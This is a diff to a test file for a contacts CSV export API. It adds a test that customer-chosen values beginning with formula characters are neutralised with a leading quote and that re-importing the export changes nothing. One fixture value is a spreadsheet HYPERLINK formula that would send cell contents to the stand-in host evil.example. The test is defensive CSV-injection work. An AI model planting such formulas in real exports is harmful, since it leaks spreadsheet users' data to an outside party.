@@ -247,6 +247,24 @@ describe("GET /contacts/export", () => {
     expect((await exportCsv(other.token, other.accountId)).text).toBe(exported.text);
   });
 
+  it("neutralizes formula cells a customer controls (OWASP), and importing the export changes nothing", async () => {
+    const s = await shop();
+    // an X user picks their own display name: this one would run in a spreadsheet
+    await insertContactWith(pool(), { merchantId: s.merchantId, accountId: s.accountId, twitterUserId: "7001", username: "mallory", displayName: '=HYPERLINK("http://evil.example/?"&A1,"Click")', tags: ["-vip"], attributes: { note: "@SUM(1+1)", delta: -3, plain: "'=quoted" } });
+    await insertContactWith(pool(), { merchantId: s.merchantId, accountId: s.accountId, twitterUserId: "7002", username: "tab", displayName: "+1 555 0100", attributes: {} });
+    const before = await stored(s.accountId);
+
+    const exported = await exportCsv(s.token, s.accountId);
+    const records: string[][] = parse(exported.text, { relax_column_count: false });
+    for (const cell of records.slice(1).flat()) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    expect(records[0]).toEqual(["twitterUserId", "username", "displayName", "tags", "attr.delta", "attr.note", "attr.plain"]);
+    expect(records[1]).toEqual(["7001", "mallory", `'=HYPERLINK("http://evil.example/?"&A1,"Click")`, "'-vip", "'-3", "'@SUM(1+1)", "''=quoted"]);
+    expect(records[2]?.[2]).toBe("'+1 555 0100");
+
+    expect(expectSuccess(await importCsv(s.token, s.accountId, exported.text))).toMatchObject({ rows: 2, inserted: 0, updated: 2, failed: 0 });
+    expect(await stored(s.accountId)).toEqual(before);
+  });
+
   it("is readable by viewers, 404 for another merchant's account, 401 without a token", async () => {
     const a = await shop();
     await insertContactWith(pool(), { ...a, twitterUserId: "7001", username: "secret_customer" });
